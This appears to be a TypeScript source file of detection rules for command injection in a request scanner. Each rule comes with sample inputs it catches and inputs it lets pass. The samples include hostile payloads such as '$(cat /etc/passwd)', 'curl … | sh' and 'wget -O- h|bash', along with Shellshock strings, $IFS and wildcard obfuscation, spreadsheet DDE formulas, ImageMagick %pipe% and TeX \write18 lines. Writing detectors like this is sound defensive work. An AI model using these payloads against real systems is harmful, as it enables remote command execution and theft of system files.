/** Command injection: spellings that hide a command, and includes of servers. */
import { oneArgument } from '../context.ts'
import type { Pattern } from '../pattern.ts'
import {
  any,
  border,
  digits,
  edge,
  gap,
  letters,
  maybe,
  not,
  phrases,
  quote,
  run,
  space,
  type Token,
  within,
  word,
  words,
} from '../tokens.ts'

const category = 'rce'
const severity = 'critical'
const WHITE = ' \t\n\r\v\f'
/** Folders in front of the name of a program. */
const folders: Token = maybe(
  maybe('/'),
  maybe(run('a-z0-9._-', 0, 16), '/'),
  maybe(run('a-z0-9._-', 0, 16), '/'),
  maybe(run('a-z0-9._-', 0, 16), '/'),
)
/**
 * What separates commands, with what may stand around it. `&` and `|` with a space on both sides stand between words, too, so
 * they count only behind something that is no word.
 */
const _separator: Token = any(
  [any('&&', ';', '||', '$(', '`', '\n', '\r', '<(', '>('), run(' \t{(', 0, 4)],
  [any('$(', '`', '\n', '\r'), run(' \t', 0, 4)],
  [any('|', '&'), run('{(', 0, 2)],
  [any(border, run('^a-z \t', 1)), space, any('|', '&'), run(' \t{', 0, 4)],
)
/** What an argument of a command looks like, and an English word does not. */
const _argument: Token = [
  maybe(quote),
  any(
    [
      gap,
      maybe(quote),
      any(
        ['-', run('a-z0-9-', 1)],
        ...words('/ $ ~ * " \\ < > | % {'),
        ["'"],
        ['.', run('./a-z', 1)],
        [
          run('0-9', 1, 6),
          any(border, ['.', run('0-9', 1)], [space, any('>', '|', ';', '&', '`', ')', '<', '#')]),
        ],
        [word, any('.', '/', ':', '=', '\\', '@', '-'), run('a-z0-9/\\*$', 1)],
      ),
    ],
    [space, any('|', ';', '&', '>', '<', '`', ')', '#', '}', '$', '\n')],
    ['{', run('^\n', 1)],
  ),
]

export const rceSpelling: readonly Pattern[] = [
  {
    id: 'rce-substitution',
    category,
    severity,
    message: 'A command substituted into a value',
    score: 5,
    literals: ['$('],
    before: [oneArgument],
    after: [
      space,
      folders,
      run('a-z0-9_', 2, 20),
      any(
        [gap, run('^)\n', 1, 80)],
        [space, '|', run('^\n', 1)],
        '<',
        [')', space, any(';', '|', '&', '#', quote, '`', '/')],
        '$IFS',
        [',', '/'],
      ),
    ],
    match: ['$(curl h)', 'x$(cat /etc/passwd)', "AAA;$(printf 'x'|rev)", '$(cat </etc/passwd)'],
    pass: ['$(document)', "$('#id')", 'cost $(5)', 'see $(NAME) in a Makefile'],
  },
  {
    id: 'rce-backtick',
    category,
    severity,
    message: 'A command between backticks behind an argument',
    score: 4,
    aggressive: 5,
    literals: ['`'],
    before: [oneArgument],
    after: [
      space,
      folders,
      any(
        ...words(
          'id ls cat whoami uname wget curl ping sleep nslookup echo pwd ps hostname env bash sh python perl php nc dir',
        ),
      ),
      edge,
      any('`', [gap, within(80, any('`', border), '\n')]),
    ],
    match: ['`id`', 'a`sleep 5`', '`/bin/cat /etc/passwd`'],
    pass: ['use `x`', 'alert`1`', 'the `cat` command'],
  },
  {
    id: 'rce-shellshock',
    category,
    severity,
    message: 'A function definition with a command behind it (CVE-2014-6271)',
    score: 5,
    literals: ['() {', '(){', '() { ', '()\t{'],
    before: [any(border, run('^a-z0-9_$', 1))],
    after: [
      run(WHITE, 0, 8),
      any(':', '_', 'ignored', 'foo', 'test', 'x', '}', "'", 'echo', run('a-z', 1, 8)),
      run(`${WHITE};:`, 0, 8),
      any('}', ';'),
      run(`${WHITE}`, 0, 4),
      any(';', '>', '}', '_['),
    ],
    match: ['() { :; }; echo x', '() { :;}; /bin/bash -c id', '() { x;};id', '() { _; } >_[$($())] { id; }'],
    pass: ['function f() { return 1; }', '() {', 'var f = function() {};', '() => {}'],
  },
  {
    id: 'rce-ifs',
    category,
    severity,
    message: 'The field separator variable in place of a space',
    score: 5,
    literals: [
      '$IFS',
      '${IFS',
      '$\\{IFS',
      '%ProgramFiles:~',
      '${PATH:',
      '${HOME:',
      '${SHELL:',
      '${PWD:',
      '%CommonProgramFiles:~',
      '%COMSPEC',
    ],
    after: [any('$', '}', '%', ':', border, digits, run('^a-z0-9_', 1))],
    match: [';cat$IFS/etc/passwd', 'ls${IFS}-la', '${PATH:0:1}', '%ProgramFiles:~10,1%'],
    pass: ['$IFSX', '${IF}', 'the IFS variable'],
  },
  {
    id: 'rce-brace-list',
    category,
    severity,
    message: 'A command written as a list in braces',
    score: 5,
    literals: words(
      '{cat, {ls, {curl, {wget, {id, {echo, {nc, {ping, {nslookup, {bash, {sh, {base64, {touch, {sleep,',
    ),
    after: [run('^ \n}', 1, 120), '}'],
    match: ['{cat,/etc/passwd}', ';{curl,-d,@f,h}'],
    pass: ['{cat, dog}', '{ls,'],
  },
  {
    id: 'rce-split-word',
    category,
    severity: 'high',
    message: 'A command spelt with quotes, escapes or wildcards inside the word',
    score: 5,
    literals: words(`
      /???/ /bin/c?t /b?n/ /e?c/ /et?/ /e*c/ /etc/pas* /?tc/ /bi?/ /us?/ /*/*sswd /etc/p?sswd /etc/pass??
      /???/c??
    `),
    before: [any(run(`${WHITE};|&\`$(<>'"`, 1), border)],
    after: [run('a-z?*/$@.', 0, 32), any(border, run(`${WHITE};|&\`)'"`, 1))],
    match: ['/???/c?t /etc/passwd', ';/b?n/ls', '|/e?c/passwd', 'cat /etc/pas*'],
    pass: ['what/???/why not', 'a/b?n/c', '/etc/pas'],
  },
  {
    id: 'rce-shell-path',
    category,
    severity,
    message: 'The path of a shell or interpreter, run with an argument or a file',
    score: 5,
    literals: words(`
      /bin/bash /bin/sh /bin/zsh /bin/dash /bin/cat /bin/ls /bin/nc /bin/id /bin/ping /bin/echo /bin/python
      /bin/perl /bin/curl /bin/wget /usr/bin/id /usr/bin/env /bin/uname /bin/chmod /bin/rm
    `),
    before: [not('#!'), not('#!/usr'), any(border, run('^#!a-z0-9', 1), ['/usr'])],
    after: [
      any(
        [gap, any('-', '/', quote, '$', '.', digits)],
        [quote, space, ')'],
        ['|', ';'],
        '|',
        ';',
        ')',
        '`',
        '}',
        '<',
        '${',
        '$IFS',
      ),
    ],
    match: ['/bin/bash -c x', '/bin/cat /etc/passwd', "system('/bin/sh')", '/bin/id;'],
    pass: ['#!/bin/sh\n', '#!/bin/bash -e', 'chsh to /bin/bash please', '/bin/shop'],
  },
  {
    id: 'rce-pipe-shell',
    category,
    severity,
    message: 'Something fetched or decoded and given to a shell',
    score: 2,
    aggressive: 5,
    literals: phrases(`
      |bash, | bash, |sh, | sh, |python, | python, |perl, | perl, |zsh, | zsh, |php, | php, | sudo bash,
      |/bin/sh, |/bin/bash, | /bin/sh, | base64 -d, |base64 -d, |xxd -r, | iex, |iex
    `),
    before: [within(160, any('curl', 'wget', 'echo', 'printf', 'base64', 'iwr', 'cat', 'http', 'rev'), '\n')],
    after: [edge],
    match: ['curl http://h/x | sh', 'echo aWQ= | base64 -d', 'wget -O- h|bash'],
    pass: ['a | share', 'grep x | sort', 'use a | sh'],
  },
  {
    id: 'rce-redirect',
    category,
    severity: 'high',
    message: 'Output written into a file that a server or the system reads',
    score: 4,
    aggressive: 5,
    literals: phrases(`
      >/var/www, > /var/www, >/etc/, > /etc/, >>/etc/, >> /etc/, >/tmp/, > /tmp/, >/dev/null, > /dev/null,
      2>&1, 1>&2, 0>&1, <&3, >/dev/shm
    `),
    before: [oneArgument, any(';', '|', '&', '`', '$('), run('^\n;|&', 0, 60)],
    match: ['x;ls>/tmp/f', '|id > /var/www/x', ';sleep 5 2>&1'],
    pass: ['run it > /dev/null', 'a b; ls 2>&1'],
  },
  {
    id: 'rce-ssi',
    category,
    severity,
    message: 'A server-side include',
    score: 5,
    literals: ['<!--#'],
    after: [
      space,
      any(...words('exec include echo printenv config fsize flastmod set if perl odbc email')),
      any(gap, '-->', '='),
    ],
    match: [
      '<!--#exec cmd="ls" -->',
      '<!--#include virtual="/x"-->',
      '<!--#printenv -->',
      '<!--#echo var="DATE_LOCAL" -->',
    ],
    pass: ['<!-- #exec -->', '<!--#region-->', '<!--#1-->'],
  },
  {
    id: 'rce-edge-include',
    category,
    severity,
    message: 'An edge-side include',
    score: 5,
    literals: ['<esi:', '<!--esi'],
    after: [any(letters, gap)],
    match: ['<esi:include src="http://h/">', '<!--esi $(HTTP_COOKIE) -->'],
    pass: ['<esic>', 'esi:include'],
  },
  {
    id: 'rce-spreadsheet',
    category,
    severity: 'high',
    message: 'A formula that starts a program or sends data when a table is opened',
    score: 5,
    literals: ["cmd|'", "|'/c", 'msexcel|', '=dde(', 'dde("', '=webservice(', '=importxml(', '=importdata('],
    before: [any(border, within(40, [border, run('=+@-', 1)], '\n'))],
    after: [run('^\n', 1)],
    match: ["=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|' /c x'!A0", '=WEBSERVICE("http://h")'],
    pass: ['=SUM(A1:A5)', "the cmd|'s key"],
  },
  {
    id: 'rce-latex',
    category,
    severity: 'high',
    message: 'A command of TeX that reads a file or runs a program',
    score: 5,
    literals: [
      '\\write18',
      '\\immediate\\write',
      '\\openin',
      '\\openout',
      '\\input{/',
      '\\include{/',
      '\\lstinputlisting{/',
      '\\input|',
      '\\catcode',
      '\\verbatiminput{/',
    ],
    after: [run('^\n', 1)],
    match: ['\\immediate\\write18{id}', '\\input{/etc/passwd}', '\\openin5=/etc/passwd'],
    pass: ['\\input{chapter1}', '\\include{intro}'],
  },
  {
    id: 'rce-image-program',
    category,
    severity: 'critical',
    message: 'A picture that makes its reader run a program or fetch an address',
    score: 5,
    literals: [
      'push graphic-context',
      'image over 0,0',
      "fill 'url(",
      'ephemeral:/',
      'msl:/',
      '%pipe%',
      '(%pipe%',
      'systemdict /',
      'label:@/',
      'caption:@/',
    ],
    after: [any(within(160, any('url(', 'http', 'etc', '/tmp', '|', ')', '/etc', "'")), '\n')],
    match: [
      "push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://h/x.jpg\"|id)'",
      '(%pipe%id) (r) file',
      'label:@/etc/passwd',
    ],
    pass: ['ephemeral: art', 'fill in the url'],
  },
]
